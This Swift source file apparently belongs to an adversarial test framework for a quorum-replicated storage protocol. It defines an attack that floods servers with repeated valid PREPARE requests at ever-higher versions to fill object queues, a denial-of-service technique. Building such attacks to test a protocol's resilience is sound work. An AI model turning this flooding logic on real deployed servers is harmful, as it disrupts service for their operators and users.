import NIOCore
import QuorumProtocol

/// One valid PREPARE again and again, of an object that others write: it fills the object's queue. When the object has
/// been written meanwhile, the next PREPARE is of a version above that.
struct FullQueue: Attack {
    private static let valueSizeBytes = 1000
    private static let unansweredMax = 512
    /// How often a PREPARE is sent before the attacker looks whether it still is above what others wrote.
    private static let repetitions = 256

    func prepare(by attacker: Attacker) async throws {
        guard !attacker.objects.isEmpty else { throw AttackError.noObjects }
    }

    func run(by attacker: Attacker) async {
        let block = EncodedBlock(sizeBytes: Self.valueSizeBytes, attacker.parameters)
        await attacker.besiege { server, _ in
            let objects = attacker.objects.filter {
                attacker.parameters.placement(of: $0).position(of: server.node) != nil
            }
            guard !objects.isEmpty else { return }
            await attacker.persist(at: server) { session in
                while !Task.isCancelled {
                    for key in objects {
                        let below = try await session.committed(key)
                        let version = HostileVersion(
                            block, of: key, counter: (below?.timestamp.counter ?? 0) + 1, by: attacker)
                        guard let request = version.prepare(at: server.node, justification: below) else { continue }
                        let frame = session.frame(request)
                        for _ in 0..<Self.repetitions {
                            try await session.send(frame, unansweredMax: Self.unansweredMax)
                        }
                    }
                }
            }
        }
    }
}
